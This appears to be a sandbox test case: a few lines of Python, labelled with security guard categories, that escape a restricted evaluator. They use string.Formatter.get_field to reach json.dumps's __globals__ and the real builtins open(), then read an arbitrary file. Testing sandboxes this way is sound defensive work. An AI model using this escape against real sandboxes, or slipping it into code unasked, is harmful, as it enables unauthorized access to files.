# guard: CODE_SECURITY|CODE_RUNTIME
# bare: CODE_SECURITY
# what: string.Formatter looks fields up with the real getattr
import string
found, _ = string.Formatter().get_field("0.__globals__", (json.dumps,), {})
return "ESCAPED " + found["__builtins__"]["open"](inputs["file"]).read()
